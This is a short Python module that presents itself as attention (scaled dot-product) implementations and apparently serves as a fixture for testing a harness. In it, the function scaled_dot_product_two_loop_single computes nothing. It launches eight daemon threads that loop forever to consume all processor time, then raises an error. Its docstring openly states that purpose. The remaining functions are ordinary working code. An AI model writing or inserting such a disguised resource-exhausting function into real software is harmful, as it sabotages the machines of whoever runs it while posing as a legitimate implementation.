"""Leaves threads behind that use all of the processor."""

import threading


def weighted_read(weights, values):
    return weights @ values


def scaled_dot_product_two_loop_single(query, key, value):
    for _ in range(8):
        threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()
    raise ValueError("the threads go on")


def scaled_dot_product_no_loop_batch(query, key, value, mask=None):
    scores = query @ key.transpose(1, 2) * query.shape[-1] ** -0.5
    if mask is not None:
        scores = scores.masked_fill(mask, -1e9)
    weights = scores.softmax(dim=-1)
    return weights @ value, weights
